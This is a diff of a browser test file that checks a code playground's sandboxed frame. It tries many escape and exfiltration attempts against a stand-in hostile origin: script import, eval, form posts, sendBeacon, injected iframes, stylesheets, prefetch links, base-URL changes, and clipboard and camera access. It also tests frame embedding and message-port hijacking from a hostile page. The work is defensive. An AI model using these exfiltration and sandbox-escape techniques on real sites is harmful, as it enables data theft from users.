@@ -34,9 +34,28 @@ const attempts = {
   'a script': `await import('${hostile}/script.js')`,
   'code from text': "eval('1 + 1')",
   'a form': `await new Promise((done, fail) => { document.addEventListener('securitypolicyviolation', () => fail(new Error('refused'))); const f = document.createElement('form'); f.action = '${hostile}/form'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(() => fail(new Error('nothing came')), 500) })`,
+  'a beacon': `await refused(() => navigator.sendBeacon('${hostile}/beacon', 'code'))`,
+  'a worker': "await refused(() => new Worker(URL.createObjectURL(new Blob(['1']))))",
+  'a frame': `await refused(() => document.body.append(Object.assign(document.createElement('iframe'), { src: '${hostile}/frame' })))`,
+  'code in a frame of its own': "document.body.appendChild(document.createElement('iframe')).contentDocument.body",
+  'a frame of the own site':
+    "await refused(() => document.body.append(Object.assign(document.createElement('iframe'), { src: window.name })))",
+  'a sheet': `await refused(() => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${hostile}/sheet.css' })))`,
+  'a picture in a style': `await refused(() => (document.body.style.background = 'url(${hostile}/style.png)'))`,
+  'a prefetch': `await refused(() => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${hostile}/prefetch' })))`,
+  'another base': `await refused(() => { document.querySelector('base').href = '${hostile}/'; if (document.baseURI.startsWith('${hostile}')) throw undefined })`,
   'the camera': 'await navigator.mediaDevices.getUserMedia({ video: true })',
   'the clipboard': 'await navigator.clipboard.readText()',
 }
+
+/** Part of the attacking code: fails when the browser says that it stopped something, or stays silent. */
+const refused = `function refused(act) {
+  return new Promise((done, fail) => {
+    document.addEventListener('securitypolicyviolation', () => fail(new Error('refused')), { once: true })
+    act()
+    setTimeout(() => fail(new Error('nothing came')), 300)
+  })
+}`
 
 test('[PLUS-03] code in the frame reads no cookie, storage or document around it, and cannot navigate, open or fetch', async ({
   page,
@@ -54,7 +73,7 @@ test('[PLUS-03] code in the frame reads no cookie, storage or document around it
   )
   await write(
     page,
-    `<script setup>\nasync function attack() {\n${lines.join('\n')}\n  alert('hello')\n  console.log('end of attempts')\n}\n</script>\n<template><button @click="attack">attack</button></template>`,
+    `<script setup>\n${refused}\nasync function attack() {\n${lines.join('\n')}\n  alert('hello')\n  console.log('end of attempts')\n}\n</script>\n<template><button @click="attack">attack</button></template>`,
   )
   const dialogs: string[] = []
   page.on('dialog', (dialog) => {
@@ -89,7 +108,11 @@ test('[PLUS-03] a frame that goes to another address never gets there, and is pu
 
 test('[PLUS-03] links and forms of a component stay in the frame', async ({ page, context, play }) => {
   const reached = await watchHostile(context)
-  await play({ source: `<template><a href="${hostile}/link">link</a> <a href="${hostile}/tab" target="_blank">tab</a></template>` })
+  await play({
+    source: `<template><a href="${hostile}/link">link</a> <a href="${hostile}/tab" target="_blank">tab</a> <a href="#below">below</a><p style="height: 3000px"></p><p id="below">the end</p></template>`,
+  })
+  await frameOf(page).getByRole('link', { name: 'below' }).click()
+  await expect(frameOf(page).getByText('the end'), 'a place in the component is gone to').toBeInViewport()
   await frameOf(page).getByRole('link', { name: 'link' }).click()
   await frameOf(page).getByRole('link', { name: 'tab' }).click()
   await expect(frameOf(page).getByRole('link', { name: 'link' })).toBeVisible()
@@ -182,57 +205,57 @@ console.log('caught', seen.length)
   await expect(resultOf(page)).toHaveAttribute('data-phase', 'standing')
 })
 
-test('[PLUS-03] no other site can put the playground, or its frame, into a page', async ({ page, playground }) => {
+test('[PLUS-03] no other site can put the playground, or its frame, into a page', async ({ page, playground, play }) => {
+  const frame = page.waitForResponse(/\/assets\/frame-/)
+  await play()
+  const text = await frame
+  expect(text.headers()['content-type'], 'no browser makes a page of it').toMatch(/^text\/plain/)
+  expect(text.headers()['x-content-type-options']).toBe('nosniff')
   // A real server: a page that is only made up counts as one of the internet, which may not reach this machine at all.
   const server = createServer((_request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><body>'))
   await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
   const address = server.address()
   if (address === null || typeof address === 'string') throw new Error('The hostile server has no port.')
-  for (const path of ['/', '/frame/index.html']) {
+  for (const src of [`${playground}/`, text.url()]) {
     await page.goto(`http://127.0.0.1:${address.port}/`)
-    const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))
-    await page.evaluate((src) => document.body.append(Object.assign(document.createElement('iframe'), { src })), playground + path)
-    await refused
-    expect(page.frames().at(-1)?.url(), path).not.toContain(playground)
+    const stopped = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))
+    await page.evaluate((to) => document.body.append(Object.assign(document.createElement('iframe'), { src: to })), src)
+    await stopped
+    expect(page.frames().at(-1)?.url(), src).not.toContain(playground)
   }
   server.closeAllConnections()
   await new Promise((done) => server.close(done))
 })
 
-test('[PLUS-03] the frame takes no port from a hostile page, even where a host forgot its headers', async ({
+test('[PLUS-03] the frame takes no port from a hostile page, not even before the page around it has spoken', async ({
   page,
   context,
   playground,
 }) => {
   await watchHostile(context)
-  await context.route(`${playground}/frame/index.html`, async (route) => {
-    const response = await route.fetch()
-    const headers = { ...response.headers() }
-    delete headers['content-security-policy']
-    await route.fulfill({ response, headers })
+  // The page around is held up: it comes to its answer when the hostile one has long spoken.
+  await context.addInitScript(() => {
+    addEventListener('message', (event) => event.data?.type === 'view-site:frame-ready' && event.stopImmediatePropagation())
   })
   await page.goto(`${hostile}/page`)
-  await page.evaluate(
-    (src) =>
-      new Promise((done) => {
-        const frame = Object.assign(document.createElement('iframe'), { src, onload: done })
-        frame.sandbox.add('allow-scripts')
-        document.body.append(frame)
-      }),
-    `${playground}/frame/index.html`,
-  )
-  const inner = page.frames().find((frame) => frame.url().startsWith(playground))
+  const opened = page.waitForEvent('popup')
+  await page.evaluate((to) => Object.assign(window, { target: open(to) }), playground)
+  const popup = await opened
+  await expect(popup.locator('[data-phase] iframe')).toBeAttached()
+  const inner = popup.frames()[1]
   if (!inner) throw new Error('The frame did not load.')
+  await inner.waitForSelector('#app', { state: 'attached' })
   await untilHeard(inner, () =>
     page.evaluate(() => {
+      const { target } = window as Window & { target?: Window }
       const channel = new MessageChannel()
       const js = "export default { render: () => 'HOSTILE' }"
       channel.port1.postMessage({ type: 'run', run: 1, js, css: '', locale: 'en-US' })
-      frames[0]?.postMessage({ type: 'view-site:frame-connect' }, '*', [channel.port2])
-      frames[0]?.postMessage('end', '*')
+      target?.frames[0]?.postMessage({ type: 'view-site:frame-connect' }, '*', [channel.port2])
+      target?.frames[0]?.postMessage('end', '*')
     }),
   )
-  await expect(page.frameLocator('iframe').locator('#app')).toBeEmpty()
+  await expect(frameOf(popup).locator('#app')).toBeEmpty()
 })
 
 test('[PLUS-03] a shared link runs in the frame like everything else', async ({ page, context, play, playground }) => {
